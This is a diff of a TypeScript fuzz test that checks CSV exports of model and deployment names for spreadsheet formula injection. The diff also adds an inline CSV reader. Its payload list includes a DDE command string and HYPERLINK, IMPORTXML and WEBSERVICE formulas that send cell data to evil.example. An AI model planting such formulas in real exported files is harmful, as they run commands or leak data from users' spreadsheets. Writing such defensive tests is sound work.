@@ -6,45 +6,24 @@ import { hostileText } from "../fuzz/hostile-text.ts";
 import { tryInputs } from "../fuzz/try-inputs.ts";
 import { type Figure, never, type ProofRun, sized } from "../proof.ts";
 import { deploymentEvents } from "../stack/deployment-events.ts";
-import { startApp } from "../stack/running-app.ts";
-import { startArchive } from "../stack/running-archive.ts";
-import { readCsv } from "./read-csv.ts";
+import { startApp, startArchive } from "../stack/running-app.ts";
 
 const QUANTILES = [0.5, 0.9];
 
-/** What spreadsheets run: the first character decides, full-width ones included. */
+/** Spreadsheets evaluate a cell by its first character, full-width ones included. */
 const FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
 
 const STARTS = [
-  "=",
-  "+",
-  "-",
-  "@",
-  "\t=",
-  "\r=",
-  "\n=",
-  "＝",
-  "＋",
-  "－",
-  "＠",
-  '"=',
-  "'=",
-  ";=",
-  ",=",
-  " =",
-  "|=",
+  ...["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", '"=', "'=", ";=", ",=", " =", "|="],
   "\0=",
 ];
 const FORMULAS = [
-  "1+1",
-  "cmd|' /C calc'!A0",
-  'HYPERLINK("http://evil.example?x="&A1,"click")',
-  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
-  'WEBSERVICE("http://evil.example/"&A1)',
+  ...["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")'],
+  ...['IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', 'WEBSERVICE("http://evil.example/"&A1)'],
   "SUM(1)*cmd|' /C calc'!A0",
 ];
 
-/** Names of models and services that are formulas, through the writer and through the API. */
+/** Names of models and services that are formulas, through the CSV writer and through the API. */
 export async function run(run: ProofRun): Promise<readonly Figure[]> {
   const runs = sized(run, 2_000, 50_000, 50_000);
   const formula = fc
@@ -86,7 +65,7 @@ function assertHarmless(text: string): void {
   if (cell !== undefined) throw new Error(`a cell is ${JSON.stringify(cell)}`);
 }
 
-/** Models of these names, deployed, kept, and asked for as CSV. */
+/** Stores deployments of models with these names and reads them as CSV. */
 async function throughTheApi(): Promise<readonly Figure[]> {
   const archive = await startArchive();
   const names = STARTS.flatMap((start) => FORMULAS.slice(0, 2).map((formula) => `${start}${formula}`));
@@ -109,4 +88,43 @@ async function throughTheApi(): Promise<readonly Figure[]> {
       answer.status === 200 ? cells.length : 0,
     ),
   ];
+}
+
+/**
+ * Reads CSV as a spreadsheet does. Source: RFC 4180.
+ *
+ * @example
+ * readCsv('a,"b ""c"""\r\n'); // [["a", 'b "c"']]
+ */
+export function readCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  const endCell = () => {
+    row.push(cell);
+    cell = "";
+  };
+  for (let at = 0; at < text.length; at += 1) {
+    const character = text[at] ?? "";
+    if (quoted) {
+      if (character !== '"') cell += character;
+      else if (text[at + 1] === '"') {
+        cell += '"';
+        at += 1;
+      } else quoted = false;
+    } else if (character === '"' && cell === "") quoted = true;
+    else if (character === ",") endCell();
+    else if (character === "\r" && text[at + 1] === "\n") {
+      endCell();
+      rows.push(row);
+      row = [];
+      at += 1;
+    } else cell += character;
+  }
+  if (cell !== "" || row.length > 0) {
+    endCell();
+    rows.push(row);
+  }
+  return rows;
 }
